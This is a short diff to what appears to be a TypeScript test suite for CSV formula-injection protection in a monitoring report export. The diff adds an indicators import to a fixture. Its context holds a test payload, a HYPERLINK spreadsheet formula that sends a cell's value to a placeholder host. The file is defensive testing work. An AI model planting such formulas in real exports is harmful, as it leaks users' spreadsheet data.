@@ -9,7 +9,7 @@ import { toCsv } from '../../src/api/csv.ts';
 import { reportCsv } from '../../src/api/monitoring-report.ts';
 import { csvLine, neutraliseCsvText } from '../../src/domain/csv-cell.ts';
 import type { MonitoringIndicators } from '../../src/store/monitoring.ts';
-import { NO_GUARANTEE_INDICATORS } from '../../src/store/monitoring-indicators.ts';
+import { NO_GUARANTEE_INDICATORS, NO_RETURN_INDICATORS } from '../../src/store/monitoring-indicators.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
@@ -50,6 +50,7 @@ const indicators = (kinds: string[]): MonitoringIndicators => ({
     byKind: kinds.map((kind) => ({ kind, encounters: 1, persons: 1 })),
   },
   ...NO_GUARANTEE_INDICATORS,
+  ...NO_RETURN_INDICATORS,
 });
 
 describe('CSV formula injection', () => {
